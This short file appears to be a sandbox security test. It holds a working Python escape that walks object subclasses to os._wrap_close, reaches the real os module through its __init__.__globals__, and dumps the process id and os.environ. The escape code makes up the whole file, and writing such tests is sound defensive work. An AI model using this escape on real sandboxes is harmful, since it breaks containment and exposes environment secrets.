# technique: the denied object from operator.methodcaller('mro')(str)[-1], then operator.methodcaller('__subclasses__') with the name built at run time: the subclass walk reaches os._wrap_close, whose __init__.__globals__ (operator.attrgetter) are the real os module's
# configs: default, common
# os is gone from sys.modules, but its classes are still alive in the task process. With nothing
# allowed `import operator` is refused.
import operator
u = '_' * 2
real_object = operator.methodcaller('mro')(str)[-1]
for cls in operator.methodcaller(u + 'subclasses' + u)(real_object):
    if cls.__name__ == '_wrap_close':
        os_globals = operator.attrgetter(u + 'init' + u + '.' + u + 'globals' + u)(cls)
        return [{'json': {'escaped': [os_globals['getpid'](), repr(os_globals['environ'])]}}]
return [{'json': {'result': 'no _wrap_close subclass'}}]
